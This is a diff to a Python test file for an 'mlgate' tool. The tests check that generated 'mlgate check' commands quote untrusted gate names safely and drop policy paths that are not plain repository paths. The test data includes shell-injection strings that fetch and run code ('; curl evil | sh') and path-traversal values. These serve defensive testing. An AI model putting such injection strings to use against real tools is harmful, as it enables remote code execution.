@@ -3,6 +3,7 @@
 import hashlib
 import io
 import json
+import shlex
 import stat
 import warnings
 import zipfile
@@ -142,11 +143,32 @@ def test_the_command_that_a_reader_types_is_ours():
 
     (report,), _ = results({"mlgate-x": packed(("result.json", json.dumps(lies)))}, FACTS)
 
-    import shlex
-
     assert shlex.split(report.checks[0].command) == [
         "mlgate", "check", "--gate", "metrics/x'; curl evil | sh; '.min",
     ]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("path", "named"),
+    [
+        ("models/risk/mlgate.yaml", ["--config", "models/risk/mlgate.yaml"]),
+        ("mlgate.yaml", []),
+        ("/etc/mlgate.yaml", []),
+        ("../evil/mlgate.yaml", []),
+        ("a/../../mlgate.yaml", []),
+        ("-x", []),
+        ("a; curl evil | sh", []),
+        ("models/risk/mlgate.yaml\n", []),
+    ],
+)
+def test_the_command_names_the_policy_where_it_is_a_plain_path_of_the_repository(path, named):
+    said = document()
+    said["policy"]["path"] = path
+
+    (report,), _ = results({"mlgate-x": packed(("result.json", json.dumps(said)))}, FACTS)
+
+    check = report.checks[0]
+    assert shlex.split(check.command) == ["mlgate", "check", *named, "--gate", check.id]
 
 
 def test_long_texts_are_cut_wherever_they_stand():
